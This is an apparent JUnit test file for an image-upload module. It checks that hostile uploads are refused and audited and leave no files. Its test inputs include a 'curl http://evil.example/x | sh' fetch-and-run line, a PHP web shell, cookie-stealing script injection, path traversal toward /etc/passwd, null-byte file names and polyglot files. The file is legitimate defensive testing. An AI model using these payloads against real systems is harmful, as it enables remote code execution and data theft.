package dev.goldshop.media;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.goldshop.core.catalog.Item;
import dev.goldshop.core.context.CallContext;
import dev.goldshop.core.error.BusinessRuleException;
import dev.goldshop.core.error.ValidationException;
import dev.goldshop.core.security.Permissions;
import dev.goldshop.persistence.testing.PostgresExtension;
import dev.goldshop.persistence.testing.TestDatabase;
import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/**
 * SECURITY.md UPL-01 to UPL-03: hostile uploads are refused before anything is kept, each
 * refusal is audited, and no file or row remains. The surefire heap of this module is 256 MB,
 * so a pixel flood that were decoded would fail the run.
 */
@ExtendWith(PostgresExtension.class)
class HostileUploadTest {
    @TempDir
    static Path dir;
    private static MediaBed bed;
    private static Item item;

    @BeforeAll
    static void start(TestDatabase db) {
        Path root = dir.resolve("media");
        MediaModule module = MediaModule.builder(root)
                .limits(MediaLimits.defaults().withMaxImageBytes(200_000).withDailyQuota(10_000_000, 40))
                .scanner((type, content) -> new String(content.readAllBytes(), StandardCharsets.ISO_8859_1)
                        .contains("EICAR-STANDARD-ANTIVIRUS-TEST-FILE") ? Optional.of("Eicar-Test-Signature")
                        : Optional.empty())
                .build();
        bed = new MediaBed(db, root, module);
        item = bed.item();
    }

    @AfterAll
    static void stop() {
        bed.close();
    }

    private static void assertRefused(String fileName, byte[] bytes, String expected) {
        long rows = bed.count("SELECT count(*) FROM images");
        int files = bed.storedFiles().size();
        assertThatThrownBy(() -> bed.upload(ImageUpload.photo(ImageEntity.INVENTORY_ITEM, item.id(), fileName), bytes))
                .isInstanceOf(ValidationException.class).hasMessageContaining(expected);
        assertThat(bed.count("SELECT count(*) FROM images")).isEqualTo(rows);
        assertThat(bed.storedFiles()).hasSize(files);
        assertThat(bed.latestAudit(1)).containsExactly("upload:image:failure");
        assertThat(staged()).as("no staging copy is left").isEmpty();
    }

    private static java.util.List<Path> staged() {
        Path staging = bed.root.resolve(".staging");
        if (!Files.isDirectory(staging)) {
            return java.util.List.of();
        }
        try (Stream<Path> files = Files.list(staging)) {
            return files.toList();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    @Test
    void a_png_declaring_30000_by_30000_pixels_is_refused_before_decoding() {
        byte[] flood = TestImages.pngDeclaring(30_000, 30_000);
        assertThat(flood.length).isLessThan(60_000);
        assertRefused("flood.png", flood, "30000 x 30000");
    }

    @Test
    void a_script_renamed_jpg_is_refused_by_its_bytes() {
        assertRefused("photo.jpg", "#!/bin/sh\ncurl http://evil.example/x | sh\n".getBytes(StandardCharsets.US_ASCII),
                "recognised by its bytes");
    }

    @Test
    void an_svg_is_refused_whatever_its_name() {
        byte[] svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
                .getBytes(StandardCharsets.US_ASCII);
        assertRefused("logo.svg", svg, "fileName");
        assertRefused("logo.png", svg, "image/svg+xml");
    }

    @Test
    void jpeg_polyglots_with_php_or_html_are_refused() {
        byte[] appended = TestImages.concat(TestImages.jpeg(60, 40, 5),
                "<?php system($_GET['c']); ?>".getBytes(StandardCharsets.US_ASCII));
        assertRefused("poly.jpg", appended, "<?php");
        assertRefused("poly2.jpg", TestImages.jpegWithComment("<script>alert(document.cookie)</script>"), "<script");
        byte[] zipAfter = TestImages.concat(TestImages.jpeg(60, 40, 6), new byte[] {'P', 'K', 3, 4, 20, 0, 0, 0, 8, 0,
            1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20});
        assertRefused("gifar.jpg", zipAfter, "data after its end");
    }

    @Test
    void dangerous_names_are_refused_and_the_stored_name_is_the_servers() {
        byte[] jpeg = TestImages.jpeg(20, 20, 9);
        assertRefused("a.jpg.php", jpeg, "fileName");
        assertRefused("a.php%00.jpg", jpeg, "percent-encoded");
        assertRefused("a.php\0.jpg", jpeg, "control characters");
        assertRefused("a.png", jpeg, "extension matches its content");
        Image image = bed.upload(ImageUpload.photo(ImageEntity.INVENTORY_ITEM, item.id(), "../../etc/passwd.jpg"), jpeg);
        assertThat(image.fileName()).isEqualTo("passwd.jpg");
        assertThat(image.filePath()).startsWith("images/inventory-item/").doesNotContain("passwd").doesNotContain("..");
        assertThat(bed.root.resolve(image.filePath())).exists();
    }

    @Test
    void the_eicar_test_file_is_refused_by_the_scanner_hook() {
        assertRefused("eicar.jpg", TestImages.jpegWithComment(TestImages.EICAR), "Eicar-Test-Signature");
    }

    @Test
    void a_stream_one_byte_over_the_limit_is_aborted_leaving_nothing() {
        byte[] big = new byte[200_001];
        System.arraycopy(TestImages.jpeg(10, 10, 1), 0, big, 0, 100);
        assertRefused("big.jpg", big, "at most 200000 bytes");
        InputStream endless = new InputStream() {
            @Override
            public int read() {
                return 0x41;
            }
        };
        assertThatThrownBy(() -> bed.images.upload(bed.admin,
                ImageUpload.photo(ImageEntity.INVENTORY_ITEM, item.id(), "endless.jpg"), endless))
                .isInstanceOf(ValidationException.class).hasMessageContaining("at most 200000 bytes");
        assertThat(staged()).isEmpty();
    }

    @Test
    void a_users_daily_file_quota_is_enforced() {
        CallContext uploader = bed.user("quota", Permissions.IMAGE_UPLOAD);
        Item own = bed.item();
        for (int i = 0; i < 40; i++) {
            bed.images.upload(uploader, ImageUpload.photo(ImageEntity.INVENTORY_ITEM, own.id(), "q" + i + ".png"),
                    new ByteArrayInputStream(TestImages.png(8, 8, 1000 + i)));
        }
        assertThatThrownBy(() -> bed.images.upload(uploader, ImageUpload.photo(ImageEntity.INVENTORY_ITEM, own.id(),
                "q41.png"), new ByteArrayInputStream(TestImages.png(8, 8, 2000))))
                .isInstanceOf(BusinessRuleException.class).hasMessageContaining("quota");
        bed.clock.advance(java.time.Duration.ofHours(25));
        bed.images.upload(uploader, ImageUpload.photo(ImageEntity.INVENTORY_ITEM, own.id(), "next-day.png"),
                new ByteArrayInputStream(TestImages.png(8, 8, 3000)));
    }
}
